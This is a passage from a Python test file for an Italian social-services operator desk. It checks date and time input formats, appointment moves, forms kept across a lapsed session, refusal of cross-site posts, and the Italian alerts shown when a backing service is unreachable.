    await desk.as_operator(MARIA)
    page = await desk.client.get("/persons/p-1")
    assert 'type="date"' not in page.text
    opened = re.search(r'<label for="opened_on">(.*?)</label><input id="opened_on"([^>]*)>', page.text)
    assert opened is not None, page.text
    assert "(gg/mm/aaaa)" in text_of(opened.group(1)), opened.group(1)
    assert 'type="text"' in opened.group(2) and f'value="{today.strftime("%d/%m/%Y")}"' in opened.group(2), opened
    english = await desk.client.get("/persons/p-1?lang=en")
    assert "(dd/mm/yyyy)" in text_of(english.text)
    form = {"csrf": "csrf-maria", "case_id": "c-8e2b7d41a9f0", "amount": "300", "kind": "rent",
            "period_from": "1/3/2027", "period_to": "31.03.2027"}  # fmt: skip
    assert (await desk.client.post("/persons/p-1/contributions?lang=it", data=form)).status_code == 303
    assert (sent[0][1]["period_from"], sent[0][1]["period_to"]) == ("2027-03-01", "2027-03-31"), sent
    refusal = {"status": 422, "field": "period_to", "reason": "Input should be a valid date"}
    desk.services.answers[("payments", "POST", "/contribution-requests")] = httpx.Response(422, json=refusal)
    r = await desk.client.post("/persons/p-1/contributions?lang=it", data=form | {"period_to": "31.3.27"})
    assert r.status_code == 422
    said = text_of(r.text.split('id="period_to-error"', 1)[1].split("</span>", 1)[0])
    assert "non è una data valida: la scriva come gg/mm/aaaa" in said, said
    # a day the calendar has not: the desk says so itself, payments is not asked
    r = await desk.client.post("/persons/p-1/contributions?lang=it", data=form | {"period_to": "31/02/2027"})
    assert r.status_code == 422 and len(sent) == 1, sent
    said = text_of(r.text.split('id="period_to-error"', 1)[1].split("</span>", 1)[0])
    assert "questa data non esiste: controlli il giorno e il mese (gg/mm/aaaa)" in said, said
    assert 'value="31/02/2027"' in r.text and 'value="01/03/2027"' in r.text  # as typed, the good one as a day
    agenda_services(desk.services)
    agenda = await desk.client.get("/agenda?day=" + quote((today + timedelta(days=1)).strftime("%d/%m/%Y")))
    assert agenda.status_code == 200, text_of(agenda.text)
    assert ("intake", "GET", "/appointments") in desk.services.calls
    asked = [r for r in desk.services.requests if r.url.path == "/appointments"][-1]
    assert asked.url.params["day"] == (today + timedelta(days=1)).isoformat()


def test_every_date_field_of_the_desk_says_its_format_and_is_read_as_a_day() -> None:
    """No template has a date field the browser's language formats (`type="date"`): each is a day field (class
    `day`) whose label says the format, and its name is one the desk reads as a day (`forms.DAY_FIELDS`)."""
    from pathlib import Path

    from lgnet_desk.entrypoints.forms import is_day_field

    templates = Path(__file__).parents[1] / "src" / "lgnet_desk" / "entrypoints" / "templates"
    seen = 0
    for page in sorted(templates.glob("*.html")):
        text = page.read_text()
        assert 'type="date"' not in text and 'type="time"' not in text, page.name
        assert text.count('class="time"') == text.count("time_hint()"), page.name
        for field in re.findall(r"<input [^>]*class=\"day\"[^>]*>", text):
            seen += 1
            name = re.search(r'name="([^"]+)"', field)
            assert name is not None, (page.name, field)
            assert "{{" in name.group(1) or is_day_field(name.group(1)), (page.name, field)  # a macro's: its callers'
    for field_name in ("ended_on", "on", "started_on", "m1_birth_date", "m6_birth_date"):  # housing's, the register's
        assert is_day_field(field_name), field_name
        assert text.count('class="day"') == text.count("day_hint()"), page.name
    assert seen >= 15


async def test_a_time_is_typed_on_the_24_hour_clock_whatever_the_browsers_language(desk: Desk) -> None:
    """`<input type="time">` follows the browser's language too: on a browser in English the Italian agenda asked for
    "--:-- AM/PM". A time is a text field saying its format, "(hh:mm)", on the 24-hour clock; "9.30" is 09:30."""
    booked = agenda_services(desk.services)
    await desk.as_operator(MARIA)
    tomorrow = clock.today() + timedelta(days=1)
    page = await desk.client.get(f"/agenda?day={tomorrow.isoformat()}&lang=it")
    assert 'type="time"' not in page.text
    field = re.search(r'<label for="time">(.*?)</label>\s*<input id="time"([^>]*)>', page.text)
    assert field is not None and "(hh:mm)" in text_of(field.group(1)) and 'class="time"' in field.group(2), page.text
    form = {"csrf": "csrf-maria", "day": tomorrow.isoformat(), "time": "9.30", "minutes": "30", "party": "p-1",
            "purpose": "plan_review", "operator": "maria"}  # fmt: skip
    r = await desk.client.post("/agenda", data=form)
    assert r.status_code == 303, text_of(r.text)
    assert "T09:30:00" in booked[-1]["starts_at"], booked


async def test_moving_an_appointment_keeps_what_was_typed_when_refused_and_shows_the_day_it_moved_to(
    desk: Desk,
) -> None:
    """Moving an appointment to a day already past, or to a time intake refused (a double booking), showed the
    refusal in the row's state and the move's fields reset: the day back to the agenda's, the time empty, and nothing
    told a screen reader which field was wrong. Moved, the page went back to the old day, where the appointment no
    longer is: it shows the day it moved to."""
    tomorrow, later = clock.today() + timedelta(days=1), clock.today() + timedelta(days=3)
    yesterday = clock.today() - timedelta(days=1)
    agenda_services(desk.services)
    desk.services.answers[("intake", "GET", "/appointments")] = [
        {"appointment_id": "apt-1", "agenda": "desk", "operator": "maria", "unit_id": None, "person_id": None,
         "street_id": "s-1", "purpose": "plan_review", "starts_at": f"{tomorrow.isoformat()}T09:00:00+00:00",
         "ends_at": f"{tomorrow.isoformat()}T09:30:00+00:00", "status": "booked", "outcome": None,
         "booked_by": "desk.maria"}]  # fmt: skip
    conflict = {"status": 409, "field": "starts_at", "reason": "the operator already has an appointment then"}
    moved: list[dict[str, Any]] = []

    def move(request: httpx.Request) -> httpx.Response:
        body = json.loads(request.content)
        if "T11:00" in body["starts_at"]:
            return httpx.Response(409, json=conflict)
        moved.append(body)
        return httpx.Response(200, json={"appointment_id": "apt-1"})

    desk.services.answers[("intake", "POST", "/appointments/apt-1/move")] = move
    await desk.as_operator(MARIA)
    form = {"csrf": "csrf-maria", "day": tomorrow.isoformat(), "minutes": "30"}
    for new_day, new_time in ((yesterday, "10:00"), (later, "11:00")):
        typed = new_day.strftime("%d/%m/%Y")
        r = await desk.client.post("/agenda/apt-1/move?lang=it", data=form | {"new_day": typed, "new_time": new_time})
        assert r.status_code == 422, r.text
        row = r.text.split('action="/agenda/apt-1/move"', 1)[1].split("</form>", 1)[0]
        assert f'value="{typed}"' in row and f'value="{new_time}"' in row, row  # what was typed, kept
        assert 'aria-invalid="true" aria-describedby="apt-1-error"' in row, row
        assert 'id="apt-1-error"' in r.text
    r = await desk.client.post("/agenda/apt-1/move", data=form | {"new_day": later.strftime("%d/%m/%Y"),
                                                                   "new_time": "9:30"})  # fmt: skip
    assert r.status_code == 303 and r.headers["location"] == f"/agenda?day={later.isoformat()}&done=move", r.headers
    assert "T09:30" in moved[-1]["starts_at"], moved


async def test_the_privacy_notice_and_a_street_persons_page_lead_back(desk: Desk) -> None:
    """The privacy notice, printed from the cartella, and a street person's page, opened from an outing or the agenda,
    had no way back but the browser's: each links back (the notice's link is not printed)."""
    desk.services.answers |= {
        ("intake", "GET", "/persons/p-1"): {"person_id": "p-1", "identity": {"given_name": "Amina",
                                                                             "family_name": "Okafor"}},
        ("intake", "GET", "/street-persons/s-1"): {
            "street_id": "s-1", "nickname": None, "first_contact_on": "2026-11-02", "person_id": None,
            "linked_on": None, "days_to_taking_in_charge": None,
            "contacts": [{"outing_id": "out-1", "contacted_on": "2026-11-02", "place": "Porta Nuova",
                          "needs_observed": [], "services_offered": []}]},
    }  # fmt: skip
    await desk.as_operator(MARIA)
    notice = await desk.client.get("/persons/p-1/privacy-notice?lang=it")
    back = re.search(r'<p class="noprint"><a href="/persons/p-1\?purpose=case_work">([^<]+)</a></p>', notice.text)
    assert back is not None and back.group(1) == "Torna alla cartella sociale", notice.text
    assert "@media print { header, .noprint { display: none; } }" in (await desk.client.get("/static/desk.css")).text
    street = await desk.client.get("/outreach/street-persons/s-1")
    assert street.status_code == 200, street.text
    assert '<a href="/outreach">Torna alle uscite</a>' in street.text, text_of(street.text)


async def test_a_sessions_facilitators_are_operators_of_the_city_typed_by_user_name(desk: Desk) -> None:
    """A session's facilitators were asked as "identificativi degli operatori", which the desk shows nowhere, and sent
    unchecked: a typo ("mraia") or anyone's name was recorded as who ran the session. They are the desk's users the
    operator may name (as an outing's operators and an appointment's), by user name; anyone else is refused at the
    field, in Italian, and the form kept."""
    today = clock.today().isoformat()
    sent: list[dict[str, Any]] = []
    activity: dict[str, Any]
    activity = {"activity_id": "act-1", "title": "Italiano A2", "kind": "italian_language_course", "partner": None,
                "starts_on": today, "ends_on": None, "target_level": None, "session_list": [],
                "certificate_list": []}  # fmt: skip
    desk.services.answers |= {
        ("intake", "GET", "/civic/activities/act-1"): activity,
        ("intake", "POST", "/civic/sessions"): kept_in(sent),
        ("intake", "POST", "/persons/search"): [],
    }
    await desk.as_operator(MARIA)
    page = await desk.client.get("/civic/act-1?lang=it")
    assert "Conduttori (nomi utente degli operatori, separati da virgole)" in text_of(page.text), text_of(page.text)
    form = {"csrf": "csrf-maria", "held_on": today, "place": "Biblioteca", "duration_minutes": "90",
            "facilitators": "maria, mraia"}  # fmt: skip
    r = await desk.client.post("/civic/act-1/sessions", data=form)
    assert r.status_code == 422 and 'id="facilitators-error"' in r.text, text_of(r.text)
    assert "«mraia» non è un operatore del suo Comune o del suo ente" in text_of(r.text), text_of(r.text)
    assert 'value="maria, mraia"' in r.text and sent == []
    r = await desk.client.post("/civic/act-1/sessions", data=form | {"facilitators": "maria, giulia"})
    assert r.status_code == 303, text_of(r.text)
    assert sent[-1]["facilitators"] == ["maria", "giulia"], sent


async def test_a_form_of_the_cartella_sent_leads_to_what_it_recorded_and_says_so(desk: Desk) -> None:
    """A form of the cartella sent (a note, a contribution: at the bottom of a long page) brought the operator back
    to the top of the cartella, with nothing saying it was done: she scrolled down to check, or sent it again. The
    page opens at the section that shows what was recorded, saying so there (`role="status"`)."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    desk.services.answers |= {
        ("intake", "POST", "/persons/p-1/notes"): httpx.Response(201, json={"note_id": "n-2"}),
        ("payments", "POST", "/contribution-requests"): httpx.Response(201, json={"request_id": "r-1"}),
    }
    await desk.as_operator(MARIA)
    r = await desk.client.post("/persons/p-1/notes", data={"csrf": "csrf-maria", "text": "Colloquio"})
    assert r.status_code == 303 and r.headers["location"] == "/persons/p-1?purpose=case_work&done=notes#h-diary"
    page = await desk.client.get(r.headers["location"].split("#")[0] + "&lang=it")
    diary = page.text.split('id="h-diary"', 1)[1].split("</section>", 1)[0]
    assert '<p class="notice" role="status">Nota aggiunta.</p>' in diary, diary
    form = {"csrf": "csrf-maria", "case_id": "c-8e2b7d41a9f0", "amount": "300", "kind": "deposit"}
    r = await desk.client.post("/persons/p-1/contributions", data=form)
    assert r.headers["location"].endswith("&done=contributions#h-contributions"), r.headers
    page = await desk.client.get("/persons/p-1?purpose=case_work&done=contributions")
    assert page.text.split('id="h-contributions"', 1)[1].count('role="status">Contributo richiesto.</p>') == 1
    assert 'role="status"' not in (await desk.client.get("/persons/p-1?done=nonsense")).text


async def test_the_dpo_reads_the_civic_pages_views_in_her_language(desk: Desk) -> None:
    """The civic register's and an activity's views were in the DPO's Italian page and CSV as "civic register" and
    "civic activity", in English: the actions the desk writes are each said in the reader's language."""
    async with desk.pool.acquire() as conn:
        await store.log_view(conn, MARIA, ["p-1", "p-2"], "case_work", "civic register", "shown")
        await store.log_view(conn, MARIA, ["p-1"], "case_work", "civic activity", "shown")
    await desk.as_operator(RPD)
    text = text_of((await desk.client.get("/access-log?person_id=p-1&lang=it")).text)
    assert "Registro presenze di un'attività civica" in text and "Attestati di un'attività civica" in text, text
    assert "civic register" not in text and "civic activity" not in text, text
    export = (await desk.client.get("/access-log.csv?person_id=p-1&lang=it")).text
    assert "Registro presenze di un'attività civica" in export and "civic register" not in export, export


async def test_a_day_that_is_none_stays_in_the_days_field_beside_its_refusal(desk: Desk) -> None:
    """A day that is none (`/agenda?day=31/02/2026`) showed today's agenda with today's date in the field and, beside
    it, "non è una data valida": the refusal next to a good date, and what was typed gone. The field keeps what was
    typed; the title says which day is shown."""
    agenda_services(desk.services)
    await desk.as_operator(MARIA)
    r = await desk.client.get("/agenda?day=31/02/2026&lang=it")
    assert r.status_code == 422, r.text
    field = re.search(r'<input id="day"[^>]*>', r.text)
    assert field is not None and 'value="31/02/2026"' in field.group(0), field
    assert 'id="day-error"' in r.text and f"Agenda del {i18n.day(clock.today(), 'it')}" in text_of(r.text)


async def nadia_at_the_cartella(desk: Desk) -> None:
    """Nadia logged in (her password "la-password-di-nadia"), Amina's cartella served."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    nadia = Operator(
        "nadia", "Nadia Ferri", OperatorRole.STAFF, "torino", None, "desk.op-0ad1a0000001", "op-0ad1a0000002"
    )
    await desk.as_operator(nadia)
    async with desk.pool.acquire() as conn:
        await store.set_password_hash(conn, "nadia", login.HASHER.hash("la-password-di-nadia"))


async def test_a_note_sent_after_the_session_lapsed_is_offered_again_after_the_login(desk: Desk) -> None:
    """A social worker wrote a long note, answered the phone, and sent it later: the session had lapsed, the desk
    sent her to the login and what she wrote was lost. Now the form is kept (sealed, for her only, for an hour):
    once she has logged in again she is back on the page, what she wrote in the form, told that nothing was
    recorded yet; the form keeps its key, so sending it is one request whatever happened before."""
    await nadia_at_the_cartella(desk)
    async with desk.pool.acquire() as conn:
        await conn.execute("update sessions set seen_at = now() - interval '29 minutes' where username = 'nadia'")
    assert (await desk.client.get("/")).status_code == 200  # a page within the half hour keeps the session alive
    async with desk.pool.acquire() as conn:
        seen = "select seen_at > now() - interval '1 minute' from sessions where username = 'nadia'"
        assert await conn.fetchval(seen)
        # half an hour without a page (LGNET_DESK_IDLE_MINUTES, 30 by default): the session has lapsed
        await conn.execute("update sessions set seen_at = now() - interval '31 minutes' where username = 'nadia'")
    page = "/persons/p-1?purpose=case_work"
    text = "Colloquio lungo: sfratto a marzo, cerca lavoro come aiuto cuoca"
    note = {"csrf": "csrf-nadia", "form_key": "chiave-della-nota-1", "text": text}
    posts_before = len([q for q in desk.services.requests if q.method == "POST"])
    r = await desk.client.post("/persons/p-1/notes", data=note, headers={"Referer": f"http://desk.test{page}"})
    assert (r.status_code, r.headers.get("location")) == (303, "/login?kept=1"), r.text
    assert len([q for q in desk.services.requests if q.method == "POST"]) == posts_before  # nothing recorded
    async with desk.pool.acquire() as conn:
        sealed = await conn.fetchval("select sealed from kept_forms where username = 'nadia'")
    assert sealed and b"sfratto" not in sealed  # at rest, sealed
    form = await desk.client.get("/login?kept=1")
    assert "La sessione è scaduta" in text_of(form.text), text_of(form.text)
    csrf = re.search(r'name="csrf" value="([^"]+)"', form.text)
    assert csrf is not None
    # Another operator logging in on that browser is not given it.
    ugo = Operator("ugo", "Ugo Neri", OperatorRole.STAFF, "torino", None, "desk.op-0a0000000001", "op-0a0000000002")
    await with_password(desk, ugo, "la-password-di-ugo")
    login_as = {"csrf": csrf.group(1), "username": "ugo", "password": "la-password-di-ugo"}
    assert (await desk.client.post("/login", data=login_as)).headers["location"] == "/"
    form = await desk.client.get("/login")
    csrf = re.search(r'name="csrf" value="([^"]+)"', form.text)
    assert csrf is not None
    login_as = {"csrf": csrf.group(1), "username": "nadia", "password": "la-password-di-nadia"}
    r = await desk.client.post("/login", data=login_as)
    assert (r.status_code, r.headers["location"]) == (303, f"{page}&restored=1#h-diary"), r.text
    back = await desk.client.get(r.headers["location"])
    assert f">{text}</textarea>" in back.text, back.text
    assert 'name="form_key" value="chiave-della-nota-1"' in back.text
    assert "La sessione era scaduta" in text_of(back.text), text_of(back.text)
    again = await desk.client.get(r.headers["location"])  # given back once
    assert text not in again.text and "La sessione era scaduta" not in text_of(again.text)
    # A form kept and never taken back is gone after its hour: the next login, anyone's, forgets it.
    async with desk.pool.acquire() as conn:
        sealed = store.seal(b"k" * 32, "ugo|/", "[]")
        await conn.execute(
            "insert into kept_forms values ('ugo', '/', null, $1, now() - interval '61 minutes')", sealed
        )
    form = await desk.client.get("/login")
    csrf = re.search(r'name="csrf" value="([^"]+)"', form.text)
    assert csrf is not None
    await desk.client.post("/login", data=login_as | {"csrf": csrf.group(1)})
    async with desk.pool.acquire() as conn:
        assert await conn.fetchval("select count(*) from kept_forms") == 0


async def test_a_note_sent_from_a_session_ended_elsewhere_is_kept_or_its_loss_said(desk: Desk) -> None:
    """A note sent after "your other sessions have ended" (a password changed on another computer, or set by IT)
    led to a bare login page, and after the login the note was gone: the desk no longer knew the session. An ended
    session is now known as ended (as a lapsed one), so the note is kept for her and given back after the login,
    saying so. A session the desk knows nothing of any more (ended more than a day ago) cannot say whose the form
    is: nothing is kept for anyone, but the login page says that what was written was not recorded."""
    await nadia_at_the_cartella(desk)
    async with desk.pool.acquire() as conn:
        assert await store.end_sessions(conn, "nadia") == 1  # as a password change elsewhere ends this one
    page = "/persons/p-1?purpose=case_work"
    text = "Colloquio lungo: sfratto a marzo, cerca lavoro come aiuto cuoca"
    note = {"csrf": "csrf-nadia", "form_key": "chiave-della-nota-2", "text": text}
    referer = {"Referer": f"http://desk.test{page}"}
    assert (await desk.client.get("/")).headers.get("location") == "/login"  # ended: no page of hers
    r = await desk.client.post("/persons/p-1/notes", data=note, headers=referer)
    assert (r.status_code, r.headers.get("location")) == (303, "/login?kept=1"), r.text
    form = await desk.client.get("/login?kept=1")
    csrf = re.search(r'name="csrf" value="([^"]+)"', form.text)
    assert csrf is not None and "La sessione è scaduta" in text_of(form.text)
    login_as = {"csrf": csrf.group(1), "username": "nadia", "password": "la-password-di-nadia"}
    r = await desk.client.post("/login", data=login_as)
    assert (r.status_code, r.headers["location"]) == (303, f"{page}&restored=1#h-diary"), r.text
    back = await desk.client.get(r.headers["location"])
    assert f">{text}</textarea>" in back.text and "La sessione era scaduta" in text_of(back.text)
    # A session the desk has forgotten: nothing kept, for nobody, and the loss said
    desk.client.cookies.clear()
    desk.client.cookies.set("desk_session", "sid-forgotten-long-ago")
    r = await desk.client.post("/persons/p-1/notes", data=note, headers=referer)
    assert (r.status_code, r.headers.get("location")) == (303, "/login?lost=1"), r.text
    said = text_of((await desk.client.get(r.headers["location"])).text)
    assert "quello che aveva scritto non è stato registrato" in said, said
    async with desk.pool.acquire() as conn:
        assert await conn.fetchval("select count(*) from kept_forms") == 0
    assert "non è stato registrato" not in text_of((await desk.client.get("/login")).text)


async def test_a_kept_form_of_the_agenda_or_the_mobile_units_comes_back_in_its_own_form(desk: Desk) -> None:
    """The agenda's booking, an appointment's move (a form chosen by its row) and a new mobile unit, sent from an
    older session's page: each comes back on its page with what was typed, in its own form (the agenda's forms came
    back empty)."""
    tomorrow = clock.today() + timedelta(days=1)
    outreach_services(desk.services)
    desk.services.answers |= {
        ("intake", "GET", "/mobile-units"): [
            {"unit_id": "unit-1", "name": "Unità Nord", "area": "nord", "vehicle": None, "team_size": 2,
             "partner": None}],
        ("intake", "GET", "/appointments"): [
            {"appointment_id": "apt-1", "agenda": "desk", "operator": "maria", "unit_id": None, "person_id": None,
             "street_id": "st-1", "purpose": "plan_review", "starts_at": f"{tomorrow.isoformat()}T09:00:00+00:00",
             "ends_at": f"{tomorrow.isoformat()}T09:30:00+00:00", "status": "booked", "outcome": None,
             "booked_by": "maria"}],
    }  # fmt: skip
    await desk.as_operator(MARIA)
    day = tomorrow.isoformat()
    agenda = f"/agenda?day={day}"

    async def back(action: str, page: str, typed: dict[str, str]) -> str:
        sent = {"csrf": "csrf-of-an-old-session", **typed}
        r = await desk.client.post(action, data=sent, headers={"Referer": f"http://desk.test{page}"})
        assert r.status_code == 303 and "restored=1" in r.headers["location"], (r.status_code, r.text)
        return (await desk.client.get(r.headers["location"])).text

    booking = await back("/agenda", agenda, {"day": day, "time": "10:15", "party": "Amina Okafor",
                                              "purpose": "plan_review", "minutes": "45"})  # fmt: skip
    form = booking.split('action="/agenda" class="narrow"', 1)[1].split("</form>", 1)[0]
    assert 'value="10:15"' in form and 'value="Amina Okafor"' in form, form
    assert "<option selected>45</option>" in form and 'value="plan_review" selected' in form, form
    moved = await back("/agenda/apt-1/move", agenda, {"day": day, "new_day": day, "new_time": "16:40", "minutes": "30"})
    form = moved.split('action="/agenda/apt-1/move"', 1)[1].split("</form>", 1)[0]
    assert 'value="16:40"' in form, form
    unit = await back("/outreach/units", "/outreach/units", {"name": "Unità Est", "area": "Barriera", "team_size": "3"})
    form = unit.split('action="/outreach/units"', 1)[1].split("</form>", 1)[0]
    assert 'value="Unità Est"' in form and 'value="Barriera"' in form and 'value="3"' in form, form


async def test_a_form_from_an_older_session_is_shown_again_on_its_page_rather_than_refused(desk: Desk) -> None:
    """The page of a session since ended (logged out and in again in another tab) sent its form with the old CSRF
    token: refused ("Il modulo è scaduto") and what was typed lost. From the desk's own page it is shown again
    there, to be checked and sent; without a Referer from the desk it is still refused."""
    today = clock.today().isoformat()
    serve_the_cartella(desk.services, today, today)
    await desk.as_operator(MARIA)
    page = "/persons/p-1?purpose=case_work"
    note = {"csrf": "csrf-of-an-old-session", "text": "Appunto dal vecchio modulo"}
    r = await desk.client.post("/persons/p-1/notes", data=note, headers={"Referer": f"http://desk.test{page}"})
    assert (r.status_code, r.headers.get("location")) == (303, f"{page}&restored=1#h-diary"), r.text
    back = await desk.client.get(r.headers["location"])
    assert ">Appunto dal vecchio modulo</textarea>" in back.text
    # A case form comes back as a refused one does: its amount, its kind chosen, at its section.
    request = {"csrf": "csrf-of-an-old-session", "case_id": "c-8e2b7d41a9f0", "kind": "deposit", "amount": "300"}
    r = await desk.client.post(
        "/persons/p-1/contributions", data=request, headers={"Referer": f"http://desk.test{page}"}
    )
    assert r.headers.get("location") == f"{page}&restored=1#h-contributions", r.text
    back = await desk.client.get(r.headers["location"])
    contribution = back.text.split('action="/persons/p-1/contributions"', 1)[1].split("</form>", 1)[0]
    assert 'name="amount" inputmode="decimal" value="300"' in contribution, contribution
    assert '<option value="deposit" selected>' in contribution, contribution
    # A button with nothing typed (here: logging out from the old page) is not kept: refused as before.
    out = {"csrf": "csrf-of-an-old-session", "form_key": "chiave-del-vecchio-modulo"}
    r = await desk.client.post("/logout", data=out, headers={"Referer": f"http://desk.test{page}"})
    assert r.status_code == 403 and "Il modulo è scaduto" in text_of(r.text)
    elsewhere = await desk.client.post(
        "/persons/p-1/notes", data=note, headers={"Referer": f"https://elsewhere.example{page}"}
    )
    assert elsewhere.status_code == 403 and "Il modulo è scaduto" in text_of(elsewhere.text)


async def test_a_member_typed_without_a_name_or_a_birth_date_is_refused_at_those_fields_not_left_out(
    desk: Desk,
) -> None:
    """From a review: a second member with surname, sex, nationality and fiscal code typed but the name and birth date
    forgotten was left out without a word, and the household registered with the reference person alone. A row is
    left out only when nothing in it is typed; otherwise its missing name and birth date are said at their fields,
    nobody is registered yet, and everything typed stays on the form."""
    registered: list[tuple[str, dict[str, Any]]] = []
    for path in ("/persons", "/consents", "/households"):
        desk.services.answers[("intake", "POST", path)] = keeping(registered)
    await desk.as_operator(MARIA)
    new = (await desk.client.get("/persons/new")).text
    household = {"csrf": "csrf-maria", "form_key": form_key_of(new, "/persons/new"), "m0_given_name": "Amina",
                 "m0_family_name": "Okafor", "m0_birth_date": "14/03/1985", "m0_sex": "female",
                 "m0_nationality": "NG", "consent_service": "on",
                 "m1_family_name": "Okafor", "m1_sex": "male", "m1_nationality": "NG",
                 "m1_fiscal_code": "KFRJHN10A01Z335Z", "m2_given_name": " ", "m2_sex": ""}  # fmt: skip
    r = await desk.client.post("/persons/new", data=household)
    assert r.status_code == 422, (r.status_code, r.headers.get("location"))
    assert registered == [], registered  # nothing registered: the household is not formed without its member
    for name in ("m1_given_name", "m1_birth_date"):
        assert f'aria-describedby="{name}-error"' in r.text, name
        said = r.text.split(f'id="{name}-error">', 1)[1].split("</span>", 1)[0]
        assert said == "campo obbligatorio", said
    assert "m2_given_name-error" not in r.text and "m0_given_name-error" not in r.text  # an empty row is no member
    for kept in ('value="Amina"', 'value="14/03/1985"', 'value="KFRJHN10A01Z335Z"', 'value="Okafor"'):
        assert kept in r.text, kept
    assert re.search(r'name="m1_sex"[^>]*>.*?<option value="male" selected', r.text, re.S), r.text
    corrected = household | {"m1_given_name": "John", "m1_birth_date": "01/01/2010"}
    r = await desk.client.post("/persons/new", data=corrected)
    assert r.status_code == 303, r.text
    [formed] = [body for _, body in registered if "member_ids" in body]
    assert len(formed["member_ids"]) == 2, formed


def unreachable(request: httpx.Request) -> httpx.Response:
    """A service that does not answer (down, or its address unreachable)."""
    raise httpx.ConnectError("connection refused", request=request)


def bad_gateway(request: httpx.Request) -> httpx.Response:
    """What a proxy in front of a service answers while the service is down."""
    return httpx.Response(502, text="<html><head><title>502 Bad Gateway</title></head><body>nginx</body></html>")


UNREACHABLE = "non è raggiungibile: riprovi tra poco"


async def test_a_form_sent_while_its_service_is_down_comes_back_as_typed_saying_so(desk: Desk) -> None:
    """From a review: a contribution sent while payments' proxy answered "502 Bad Gateway" came back with the proxy's
    HTML as the refusal of the form's first field; a note sent while intake did not answer was a 500 in English and
    the note was lost. A service that does not answer (or answers 5xx) is its own outcome: the form shown again as
    typed, with an Italian alert naming the service, never the service's body."""
    today, earlier = clock.today().isoformat(), (clock.today() - timedelta(days=40)).isoformat()
    serve_the_cartella(desk.services, today, earlier)
    await desk.as_operator(MARIA)
    page = (await desk.client.get("/persons/p-1")).text
    key = form_key_of(page, "/persons/p-1/contributions")
    desk.services.answers[("payments", "POST", "/contribution-requests")] = bad_gateway
    asked = {"csrf": "csrf-maria", "form_key": key, "case_id": "c-8e2b7d41a9f0", "kind": "deposit", "amount": "450"}
    r = await desk.client.post("/persons/p-1/contributions", data=asked)
    assert r.status_code == 503, r.text
    said = text_of(r.text)
    assert f"Il servizio «pagamenti» {UNREACHABLE}; quanto scritto è conservato" in said, said
    assert "Bad Gateway" not in r.text and "nginx" not in r.text and 'class="field-error"' not in r.text
    form = r.text.split('action="/persons/p-1/contributions"', 1)[1].split("</form>", 1)[0]
    assert 'value="450"' in form and '<option value="deposit" selected>' in form and key in form, form

    # intake away: the cartella (intake's) cannot be shown again; the note is kept and given back on the page
    desk.services.answers[("intake", "POST", "/persons/p-1/notes")] = unreachable
    note = {"csrf": "csrf-maria", "form_key": form_key_of(page, "/persons/p-1/notes"), "text": "Lunga nota"}
    desk.services.answers[("intake", "GET", "/persons/p-1/record")] = unreachable
    r = await desk.client.post(
        "/persons/p-1/notes", data=note, headers={"Referer": "http://desk.test/persons/p-1?purpose=case_work"}
    )
    assert r.status_code == 503 and r.headers["content-type"].startswith("text/html"), r.text
    said = text_of(r.text)
    assert f"Il servizio «presa in carico» {UNREACHABLE}; quanto scritto è conservato" in said, said
    back = re.search(r'<a href="([^"]+restored=1[^"]*)"', r.text)
    assert back is not None, r.text
    desk.services.answers[("intake", "GET", "/persons/p-1/record")] = a_record(today, earlier)
    again = await desk.client.get(back.group(1).replace("&amp;", "&"))
    assert ">Lunga nota</textarea>" in again.text, again.text
    assert "non era raggiungibile" in text_of(again.text) and "La sessione era scaduta" not in text_of(again.text)


async def test_a_page_whose_service_is_down_says_so_in_italian_and_logs_no_denial(desk: Desk) -> None:
    """From a review: a cartella opened while intake did not answer was a 500 with a traceback; answered 5xx, it was
    "access denied" and the access log had a denied attempt nobody made. Now a 503 page saying the service cannot be
    reached, and nothing in the log (nothing was shown or refused)."""
    await desk.as_operator(MARIA)
    for answer in (unreachable, bad_gateway):
        desk.services.answers[("intake", "GET", "/persons/p-1/record")] = answer
        r = await desk.client.get("/persons/p-1")
        assert r.status_code == 503, r.text
        said = text_of(r.text)
        assert f"Il servizio «presa in carico» {UNREACHABLE}" in said, said
        assert "Bad Gateway" not in r.text and "Traceback" not in r.text
    async with desk.pool.acquire() as conn:
        assert await conn.fetch("select * from access_log") == []
    # a registration sent while intake is away: the form as typed, the alert
    desk.services.answers[("intake", "POST", "/persons")] = unreachable
    new = (await desk.client.get("/persons/new")).text
    household = {"csrf": "csrf-maria", "form_key": form_key_of(new, "/persons/new"), "m0_given_name": "Amina",
                 "m0_family_name": "Okafor", "m0_birth_date": "14/03/1985", "m0_sex": "female",
                 "m0_nationality": "NG", "consent_service": "on"}  # fmt: skip
    r = await desk.client.post("/persons/new", data=household)
    assert r.status_code == 503, r.text
    assert f"Il servizio «presa in carico» {UNREACHABLE}; quanto scritto è conservato" in text_of(r.text)
    assert 'value="Amina"' in r.text and 'value="14/03/1985"' in r.text and 'consent_service" checked' in r.text


def with_households(today: str, earlier: str, *households: dict[str, Any]) -> dict[str, Any]:
    """The cartella of p-1 with these households, ordered as intake orders them (by id)."""
    record = a_record(today, earlier)
    record["households"] = sorted(households, key=lambda h: str(h["household_id"]))
    return record


def a_household(household_id: str, reference: tuple[str, str], *members: tuple[str, str, str | None]) -> dict[str, Any]:
    """A household by its reference person (id, name) and members (id, name, the day they left or None)."""
    return {"household_id": household_id, "reference_person_id": reference[0], "members": [
        {"person_id": pid, "name": name, "birth_date": "1980-01-01", "sex": "female", "joined_on": "2025-01-01",
         "left_on": left, "reason": None} for pid, name, left in members]}  # fmt: skip


async def test_a_case_is_opened_on_a_household_the_person_belongs_to_chosen_by_name(desk: Desk) -> None:
    """From a review: the form to open a case sent the first household intake listed (by id), one the person had
    left, and named none. Only the households the person is a member of now are offered, by their reference person;
    with more than one the operator chooses; with none the page says so and offers no form."""
    today, earlier = clock.today().isoformat(), (clock.today() - timedelta(days=40)).isoformat()
    serve_the_cartella(desk.services, today, earlier)
    left = a_household("h-0old", ("p-9", "Ex Partner"), ("p-9", "Ex Partner", None), ("p-1", "Amina Okafor", earlier))
    now = a_household("h-5f1c0a9e7b2d", ("p-1", "Amina Okafor"), ("p-1", "Amina Okafor", None))
    desk.services.answers[("intake", "GET", "/persons/p-1/record")] = with_households(today, earlier, left, now)
    posted: list[tuple[str, dict[str, Any]]] = []
    desk.services.answers[("intake", "POST", "/cases")] = keeping(posted)
    await desk.as_operator(MARIA)
    page = (await desk.client.get("/persons/p-1")).text
    form = page.split('action="/persons/p-1/cases"', 1)[1].split("</form>", 1)[0]
